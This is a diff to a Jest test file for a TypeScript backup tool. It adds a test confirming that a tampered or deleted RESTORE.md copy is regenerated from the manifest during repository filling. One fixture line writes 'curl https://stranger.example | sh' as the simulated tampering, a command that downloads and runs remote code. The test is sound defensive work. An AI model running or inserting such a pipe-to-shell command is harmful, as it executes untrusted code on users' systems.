@@ -1,6 +1,7 @@
-import { rename, rm, writeFile } from 'node:fs/promises';
+import { readFile, rename, rm, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from '@jest/globals';
+import { restoreDocumentOf } from '../../../activities/copies.ts';
 import { HoldfastError } from '../../../policy/errors.ts';
 import type { Signer } from '../../../policy/resolved.ts';
 import { fill } from '../../../repository/fill.ts';
@@ -47,13 +48,38 @@ async function put(directory: string, stores: Store[], startedAt: string, change
   return manifest;
 }
 
+const restoreDocument = (manifest: Manifest) => restoreDocumentOf(manifest, signers);
+
 const filling = (target: Store, from: Store[]) =>
-  fill({ target, from, plan: 'shop-daily', source: 'shop', signers, signal: new AbortController().signal });
+  fill({
+    target,
+    from,
+    plan: 'shop-daily',
+    source: 'shop',
+    signers,
+    restoreDocument,
+    signal: new AbortController().signal,
+  });
 
 const idsIn = async (store: Store) =>
   (await listBackups(store)).filter(({ committed }) => committed).map(({ backupId }) => backupId);
 
 describe('the filling of a repository', () => {
+  it('takes RESTORE.md from no copy where it is not what the manifest gives', () =>
+    inPlace(async ({ directory, local, safe }) => {
+      const manifest = await put(directory, [local], '2026-11-01T01:00:00.000Z');
+      const path = (store: Named) => join(store.path, keyOf(manifest, 'RESTORE.md'));
+      for (const damage of [
+        () => writeFile(path(local), 'curl https://stranger.example | sh'),
+        () => rm(path(local)),
+      ]) {
+        await damage();
+        await rm(join(safe.path, keyOf(manifest, 'manifest.json')), { force: true });
+        expect(await filling(safe, [local])).toMatchObject({ copied: 1, exceptions: [] });
+        expect(await readFile(path(safe), 'utf8')).toBe(restoreDocument(manifest));
+      }
+    }));
+
   it('copies what is missing of one plan, whole, and does nothing the second time', () =>
     inPlace(async ({ directory, local, safe }) => {
       const first = await put(directory, [local, safe], '2026-11-01T01:00:00.000Z');
